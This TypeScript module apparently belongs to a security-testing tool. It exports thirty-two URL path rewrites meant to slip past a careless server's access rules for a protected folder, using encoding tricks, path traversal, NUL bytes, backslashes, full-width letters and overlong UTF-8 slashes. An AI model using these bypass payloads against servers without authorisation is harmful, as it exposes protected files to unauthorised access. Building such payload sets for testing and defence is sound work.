/** A way to rewrite a path so that a careless server serves the file although its access rules do not match the path. */
export type Spelling = { name: string; spell(path: string): string };

const changeFirstSegment = (path: string, change: (segment: string) => string): string =>
  path.replace(/^\/([^/]*)/, (_, segment) => `/${change(segment)}`);
const changeOtherSegments = (path: string, change: (rest: string) => string): string =>
  path.replace(/^(\/[^/]*)(.*)$/, (_, start, tail) => start + change(tail));
const percentEncode = (letter: string): string => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`;

/**
 * Thirty-two spellings. They accept paths that start with a slash and have at least two segments, the first of which is the protected
 * folder.
 */
export const spellings: readonly Spelling[] = [
  { name: 'unchanged path', spell: (path) => path },
  { name: 'folder in upper case', spell: (path) => changeFirstSegment(path, (segment) => segment.toUpperCase()) },
  {
    name: 'capitalised folder',
    spell: (path) => changeFirstSegment(path, (segment) => segment.slice(0, 1).toUpperCase() + segment.slice(1)),
  },
  { name: 'path in upper case', spell: (path) => path.toUpperCase() },
  {
    name: 'first letter encoded',
    spell: (path) => changeFirstSegment(path, (segment) => percentEncode(segment) + segment.slice(1)),
  },
  {
    name: 'last letter encoded',
    spell: (path) => changeFirstSegment(path, (segment) => segment.slice(0, -1) + percentEncode(segment.slice(-1))),
  },
  {
    name: 'entire folder encoded',
    spell: (path) => changeFirstSegment(path, (segment) => [...segment].map(percentEncode).join('')),
  },
  {
    name: 'encoded twice',
    spell: (path) => changeFirstSegment(path, (segment) => percentEncode(segment).replace('%', '%25') + segment.slice(1)),
  },
  { name: 'slash encoded', spell: (path) => changeOtherSegments(path, (tail) => tail.replace('/', '%2f')) },
  { name: 'slash encoded twice', spell: (path) => changeOtherSegments(path, (tail) => tail.replace('/', '%252f')) },
  { name: 'leading slash doubled', spell: (path) => `/${path}` },
  { name: 'leading slash tripled', spell: (path) => `//${path}` },
  { name: 'inner slash doubled', spell: (path) => changeOtherSegments(path, (tail) => `/${tail}`) },
  { name: 'leading dot segment', spell: (path) => `/.${path}` },
  { name: 'inner dot segment', spell: (path) => changeOtherSegments(path, (tail) => `/.${tail}`) },
  { name: 'encoded dot segment', spell: (path) => `/%2e${path}` },
  { name: 'path traversal', spell: (path) => `/assets/..${path}` },
  { name: 'path traversal, encoded dots', spell: (path) => `/assets/%2e%2e${path}` },
  { name: 'path traversal, encoded slash', spell: (path) => `/assets/..%2f${path.slice(1)}` },
  { name: 'path traversal from a missing folder', spell: (path) => `/nowhere/../${path.slice(1)}` },
  { name: 'path traversal above the root', spell: (path) => `/../..${path}` },
  { name: 'backslash', spell: (path) => `/\\${path.slice(1)}` },
  { name: 'backslash encoded', spell: (path) => changeOtherSegments(path, (tail) => tail.replace('/', '%5c')) },
  { name: 'parameter after the folder', spell: (path) => changeFirstSegment(path, (segment) => `${segment};a=b`) },
  { name: 'parameter at the end', spell: (path) => `${path};.css` },
  { name: 'NUL at the end', spell: (path) => `${path}%00` },
  { name: 'NUL after the folder', spell: (path) => changeFirstSegment(path, (segment) => `${segment}%00`) },
  { name: 'space after the folder', spell: (path) => changeFirstSegment(path, (segment) => `${segment}%20`) },
  { name: 'dot after the folder', spell: (path) => changeFirstSegment(path, (segment) => `${segment}.`) },
  {
    name: 'full-width letter',
    spell: (path) =>
      changeFirstSegment(
        path,
        (segment) => encodeURIComponent(String.fromCharCode(segment.charCodeAt(0) + 0xfee0)) + segment.slice(1),
      ),
  },
  { name: 'overlong slash', spell: (path) => changeOtherSegments(path, (tail) => tail.replace('/', '%c0%af')) },
  { name: 'query with a stylesheet path', spell: (path) => `${path}?x=/assets/style.css` },
];
